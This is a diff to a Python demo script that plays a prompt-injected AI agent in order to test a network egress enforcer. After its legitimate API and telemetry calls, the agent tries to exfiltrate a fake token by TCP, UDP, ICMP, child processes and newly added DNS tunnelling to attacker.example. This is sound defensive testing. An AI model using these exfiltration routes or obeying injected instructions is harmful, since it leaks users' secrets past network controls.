@@ -1,7 +1,9 @@
 #!/usr/bin/env python3
 """A prompt-injected AI agent, for `cargo xtask demo` (Python stdlib only).
 
-It does its legitimate work first (a POST to its API on 127.0.0.1:8080, a
+It does its legitimate work first (it resolves its API's name,
+api.agent.demo, through the resolver its resolv.conf would name,
+127.0.0.53:53, POSTs to the address it got on port 8080, and sends a
 telemetry datagram to 127.0.0.1:5353), then follows an injected instruction:
 it "reads a secret" (a fake token generated here) and tries to get it out by
 every route an agent could reach for. Every other loopback address or port
@@ -26,7 +28,9 @@ import subprocess
 import sys
 import time
 
-API = ("127.0.0.1", 8080)
+API_NAME = "api.agent.demo"
+API_PORT = 8080
+RESOLVER = ("127.0.0.53", 53)  # any address: the kernel steers port 53 to the enforcer's proxy
 TELEMETRY = ("127.0.0.1", 5353)
 TIMEOUT = 3.0
 
@@ -60,6 +64,59 @@ def fmt(addr):
 
 
 # --- what the vectors do ------------------------------------------------------
+
+class Refused(OSError):
+    """The DNS server answered with an error rcode."""
+
+
+RCODES = {2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}
+
+
+def skip_name(r, i):
+    """Index after the (possibly compressed) name at r[i]."""
+    while True:
+        n = r[i]
+        if n == 0:
+            return i + 1
+        if n & 0xC0 == 0xC0:
+            return i + 2
+        i += 1 + n
+
+
+def dns_query(name, qtype=1, server=RESOLVER):
+    """One stub-resolver query over UDP (hand-built: this is the agent, not
+    the enforcer). Returns the A records; raises Refused on an error rcode."""
+    qid = secrets.randbits(16)
+    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    q += struct.pack(">HH", qtype, 1)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(TIMEOUT)
+        s.sendto(q, server)
+        r, src = s.recvfrom(4096)
+    rid, flags, qd, an = struct.unpack(">HHHH", r[:8])
+    rcode = flags & 0xF
+    if rid != qid:
+        raise OSError(errno.EPROTO, "answer id does not match")
+    if rcode:
+        raise Refused(None, f"{RCODES.get(rcode, rcode)} from {src[0]}:{src[1]}")
+    i = 12
+    for _ in range(qd):  # skip the question
+        i = skip_name(r, i) + 4
+    ips = []
+    for _ in range(an):
+        i = skip_name(r, i)
+        rtype, _cls, _ttl, rdlen = struct.unpack(">HHIH", r[i:i + 10])
+        i += 10
+        if rtype == 1 and rdlen == 4:
+            ips.append(socket.inet_ntoa(r[i:i + 4]))
+        i += rdlen
+    return ips, src
+
+
+def dns_exfil(name, qtype=1):
+    ips, src = dns_query(name, qtype)
+    return f"answered by {src[0]}:{src[1]}: {ips}"
 
 def tcp_send(addr, payload, family=socket.AF_INET):
     with socket.socket(family, socket.SOCK_STREAM) as s:
@@ -180,11 +237,25 @@ print("agent: doing my job", flush=True)
 
 body = b'{"model":"demo","messages":[{"role":"user","content":"summarize the quarterly report"}]}'
 req = (
-    b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
+    b"POST /v1/chat/completions HTTP/1.1\r\nHost: api.agent.demo:8080\r\n"
     b"Content-Type: application/json\r\nContent-Length: " + str(len(body)).encode() + b"\r\n"
     b"Connection: close\r\n\r\n" + body
 )
-attempt("legit", "tcp connect: API call", fmt(API), lambda: tcp_send(API, req))
+API = None
+
+
+def resolve_api():
+    global API
+    ips, src = dns_query(API_NAME)
+    if not ips:
+        raise OSError(errno.ENOENT, f"no address for {API_NAME}")
+    API = (ips[0], API_PORT)
+    return f"{API_NAME} -> {ips} (answer from {src[0]}:{src[1]})"
+
+
+attempt("legit", "dns: resolve the API's name", f"{API_NAME} @ {fmt(RESOLVER)}", resolve_api)
+if API:
+    attempt("legit", "tcp connect: API call", fmt(API), lambda: tcp_send(API, req))
 attempt("legit", "udp sendto: telemetry", fmt(TELEMETRY),
         lambda: udp_sendto(TELEMETRY, b"agent.calls:1|c", want_reply=True))
 
@@ -210,7 +281,12 @@ attempt(X, "tcp ipv4-mapped ipv6", "[::ffff:127.0.0.2]:443",
         lambda: tcp_send(("::ffff:127.0.0.2", 443), loot, socket.AF_INET6))
 attempt(X, "udp sendto ipv4-mapped ipv6", "[::ffff:127.0.0.3]:4444",
         lambda: udp_sendto(("::ffff:127.0.0.3", 4444), loot, socket.AF_INET6))
-attempt(X, "tcp allowed host, wrong port", "127.0.0.1:9999", lambda: tcp_send(("127.0.0.1", 9999), loot))
+attempt(X, "tcp API host, wrong port", "127.0.0.10:9999", lambda: tcp_send(("127.0.0.10", 9999), loot))
+attempt(X, "dns tunnel: secret in a name", f"{SECRET[:8]}....attacker.example",
+        lambda: dns_exfil(SECRET.replace("-", "") + ".t.attacker.example"))
+attempt(X, "dns: resolve attacker host", "drop.attacker.example", lambda: dns_exfil("drop.attacker.example"))
+attempt(X, "dns TXT query (tunnel channel)", f"{API_NAME} TXT", lambda: dns_exfil(API_NAME, 16))
+attempt(X, "dns over tls", "127.0.0.2:853", lambda: tcp_send(("127.0.0.2", 853), loot))
 attempt(X, "child process (python -c)", "127.0.0.2:443", lambda: child_process(SECRET))
 attempt(X, "raw ICMP socket", "127.0.0.2 (icmp)", lambda: icmp_echo(loot, socket.SOCK_RAW))
 attempt(X, "ICMP ping socket", "127.0.0.2 (icmp)", lambda: icmp_echo(loot, socket.SOCK_DGRAM))
